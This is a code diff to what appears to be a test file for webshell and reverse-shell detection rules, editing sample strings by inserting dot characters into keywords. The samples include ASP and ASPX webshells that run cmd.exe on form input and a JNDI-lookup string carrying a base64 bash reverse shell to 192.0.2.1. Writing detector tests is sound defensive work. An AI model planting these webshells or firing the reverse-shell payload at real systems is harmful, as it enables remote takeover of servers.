@@ -74,7 +74,7 @@ func webshellExamples() []example {
 	}, {
 		rule:   "Tyto_WebShell_Asp_Command",
 		fires:  []object{text("/srv/www/a.asp", `<% Set s = CreateObject("WScr·ipt.Shell"): Set p = s.Ex·ec("cmd.exe /c " & Request.Form("c")): Response.Write p.Std·Out.ReadAll %>`)},
-		silent: []object{text("/srv/www/b.asp", `<% Set s = CreateObject("ADODB.Connection"): s.Open Request.Form("c") %>`)},
+		silent: []object{text("/srv/www/b.asp", `<% Set s = CreateObject("ADODB.Con·nection"): s.Open Request.Form("c") %>`)},
 	}, {
 		rule:   "Tyto_WebShell_Aspx_Command",
 		fires:  []object{text("/srv/www/a.aspx", `<%@ Page Language="C#" %><% var i = new ProcessStart·Info("cmd·.exe", Request["c"]); i.RedirectStandard·Output = true; %>`)},
@@ -99,7 +99,7 @@ func reverseShellExamples() []example {
 		},
 	}, {
 		rule:   "Tyto_ReverseShell_Base64",
-		fires:  []object{text("/var/log/app.log", "user=${jndi:ldap://x/Base64/"+b64("ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1")+"}")},
+		fires:  []object{text("/var/log/app.log", "user=${jn·di:ldap://x/Base64/"+b64("ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1")+"}")},
 		silent: []object{text("/var/log/app.log", b64("ba·sh -i is an interactive shell"))},
 	}, {
 		rule: "Tyto_ReverseShell_Python",
